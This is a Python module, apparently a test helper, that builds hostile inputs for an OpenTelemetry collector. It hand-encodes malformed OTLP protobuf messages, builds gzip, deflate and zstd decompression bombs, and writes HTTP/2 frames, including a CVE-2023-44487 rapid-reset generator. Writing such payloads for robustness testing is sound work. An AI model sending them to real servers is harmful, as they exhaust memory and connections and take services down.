"""What an attacker sends: OTLP that no SDK makes, bombs, and HTTP/2 by hand.

Messages are written byte by byte, because a library for protobuf refuses to write what is wrong.
Field numbers: opentelemetry-proto 1.x, `trace.proto`, `metrics.proto`, `logs.proto`, `common.proto`.
"""

from __future__ import annotations

import gzip
import os
import struct
import time
import zlib
from collections.abc import Iterator

TRACE_EXPORT = "/opentelemetry.proto.collector.trace.v1.TraceService/Export"

_HTTP2_DATA, _HTTP2_HEADERS, _HTTP2_RESET, _HTTP2_SETTINGS = 0, 1, 3, 4
_END_STREAM, _END_HEADERS = 1, 4
_CANCEL = 8


def varint(number: int) -> bytes:
    """Returns a base-128 number; a negative one has the ten bytes of its 64-bit complement."""
    number &= 2**64 - 1
    written = bytearray()
    while number > 127:
        written.append(number & 127 | 128)
        number >>= 7
    return bytes([*written, number])


def field(number: int, content: bytes) -> bytes:
    """Returns a field with its length: a string, bytes or a message."""
    return varint(number << 3 | 2) + varint(len(content)) + content


def fixed(number: int, value: int) -> bytes:
    """Returns a field of eight bytes, as timestamps and counts have."""
    return varint(number << 3 | 1) + struct.pack("<Q", value & 2**64 - 1)


def real(number: int, value: float) -> bytes:
    """Returns a field with a double."""
    return varint(number << 3 | 1) + struct.pack("<d", value)


def text(value: bytes | str) -> bytes:
    """Returns an AnyValue with a string, which need not be UTF-8."""
    return field(1, value if isinstance(value, bytes) else value.encode())


def attribute(key: bytes | str, value: bytes) -> bytes:
    """Returns a KeyValue; `value` is an AnyValue."""
    return text(key) + field(2, value)


def nested_value(levels: int, *, lists: bool = True) -> bytes:
    """Returns an AnyValue of lists in lists, or of maps in maps, so many levels deep."""
    tags = (b"\x0a", b"\x2a") if lists else (b"\x12", b"\x0a", b"\x32")
    parts = [text("x")]
    size = len(parts[0])
    for tag in tags * levels:
        parts.append(tag + varint(size))
        size += len(parts[-1])
    return b"".join(reversed(parts))


def resource(service: bytes | str, attributes: bytes = b"") -> bytes:
    """Returns the first field of ResourceSpans, ResourceMetrics and ResourceLogs."""
    return field(1, field(1, attribute("service.name", text(service))) + attributes)


def request(service: bytes | str, *items: bytes, scope: bytes = b"") -> bytes:
    """Returns an export request of any signal: spans, metrics and log records have the same field numbers."""
    return field(1, resource(service) + field(2, scope + b"".join(field(2, item) for item in items)))


def span(
    more: bytes = b"",
    *,
    name: bytes = b"GET /attack",
    trace_id: bytes | None = None,
    span_id: bytes | None = None,
    start_ns: int | None = None,
    end_ns: int | None = None,
) -> bytes:
    """Returns a Span; unless told otherwise it has just ended, has valid IDs and no attributes."""
    now = time.time_ns()
    return b"".join(
        (
            field(1, os.urandom(16) if trace_id is None else trace_id),
            field(2, os.urandom(8) if span_id is None else span_id),
            field(5, name),
            fixed(7, now if start_ns is None else start_ns),
            fixed(8, now if end_ns is None else end_ns),
            more,
        )
    )


def span_attribute(key: bytes | str, value: bytes) -> bytes:
    """Returns an attribute of a Span."""
    return field(9, attribute(key, value))


def log_record(body: bytes, more: bytes = b"", *, time_ns: int | None = None) -> bytes:
    """Returns a LogRecord of now; `body` is an AnyValue."""
    return fixed(1, time.time_ns() if time_ns is None else time_ns) + field(5, body) + more


def log_attribute(key: bytes | str, value: bytes) -> bytes:
    """Returns an attribute of a LogRecord."""
    return field(6, attribute(key, value))


def gauge(name: str, *points: bytes) -> bytes:
    """Returns a Metric of that kind."""
    return field(1, name.encode()) + field(5, b"".join(field(1, point) for point in points))


def counter(name: str, *points: bytes, temporality: int = 2) -> bytes:
    """Returns a monotonic Sum: delta is 1, cumulative is 2."""
    data = b"".join(field(1, point) for point in points) + b"\x10" + varint(temporality) + b"\x18\x01"
    return field(1, name.encode()) + field(7, data)


def point(value: float, more: bytes = b"", *, time_ns: int | None = None) -> bytes:
    """Returns a NumberDataPoint of now."""
    return fixed(3, time.time_ns() if time_ns is None else time_ns) + real(4, value) + more


def point_attribute(key: bytes | str, value: bytes) -> bytes:
    """Returns an attribute of a NumberDataPoint."""
    return field(7, attribute(key, value))


def exponential_histogram(name: str, *, count: int, scale: int, buckets: int) -> bytes:
    """Returns a Metric with one ExponentialHistogramDataPoint, one measurement in each bucket."""
    zigzag = (scale << 1) ^ (scale >> 63)
    positive = field(2, b"\x01" * buckets)
    data = (
        fixed(3, time.time_ns())
        + fixed(4, count)
        + real(5, 1.0)
        + b"\x30"
        + varint(zigzag)
        + field(8, positive)
    )
    return field(1, name.encode()) + field(10, field(1, data) + b"\x10\x02")


def gzip_bomb(megabytes: int, layers: int = 1) -> bytes:
    """Returns zeros in gzip, and the whole in gzip again for each further layer."""
    bomb = bytes(megabytes * 1_000_000)
    for _ in range(layers):
        bomb = gzip.compress(bomb, 9)
    return bomb


def deflate_bomb(megabytes: int) -> bytes:
    """Returns zeros in zlib's format, which HTTP calls deflate."""
    return zlib.compress(bytes(megabytes * 1_000_000), 9)


def zstd_frame(size: int, window_log: int) -> bytes:
    """Returns so many spaces in zstd, in runs of 128 KiB, which asks for a window of 2**window_log bytes.

    Source: RFC 8878, sections 3.1.1.1 (frame header) and 3.1.1.2 (blocks of type 1: one byte, repeated).
    """
    blocks = [b"\x28\xb5\x2f\xfd\x00", bytes([window_log - 10 << 3])]
    while size > 0:
        run = min(size, 2**17)
        size -= run
        blocks.append(struct.pack("<I", run << 3 | 1 << 1 | (size == 0))[:3] + b" ")
    return b"".join(blocks)


def http2_opening() -> bytes:
    """Returns what a client of HTTP/2 says first."""
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_HTTP2_SETTINGS, 0, 0)


def http2_headers(stream: int, encoding: str = "") -> bytes:
    """Returns the head of a gRPC call; it is left open."""
    pairs = {
        ":method": "POST",
        ":scheme": "http",
        ":path": TRACE_EXPORT,
        ":authority": "attack",
        "content-type": "application/grpc",
        "te": "trailers",
    } | ({"grpc-encoding": encoding} if encoding else {})
    block = b"".join(b"\x00" + _literal(name) + _literal(value) for name, value in pairs.items())
    return _frame(_HTTP2_HEADERS, _END_HEADERS, stream, block)


def http2_reset(stream: int) -> bytes:
    """Returns the frame that cancels a call."""
    return _frame(_HTTP2_RESET, 0, stream, struct.pack(">I", _CANCEL))


def http2_message(stream: int, content: bytes, *, compressed: bool) -> bytes:
    """Returns the body of a gRPC call, at most 16 kB, and its end."""
    prefix = struct.pack(">BI", compressed, len(content))
    return _frame(_HTTP2_DATA, _END_STREAM, stream, prefix + content)


def rapid_resets(calls: int) -> Iterator[bytes]:
    """Yields calls that are cancelled as soon as they are made. Source: CVE-2023-44487."""
    for number in range(calls):
        stream = 2 * number + 1
        yield http2_headers(stream) + http2_reset(stream)


def _literal(word: str) -> bytes:
    """Returns a string of HPACK, not Huffman coded; below 127 bytes, so that its length is one byte."""
    return bytes([len(word)]) + word.encode()


def _frame(kind: int, flags: int, stream: int, content: bytes = b"") -> bytes:
    return struct.pack(">I", len(content))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + content
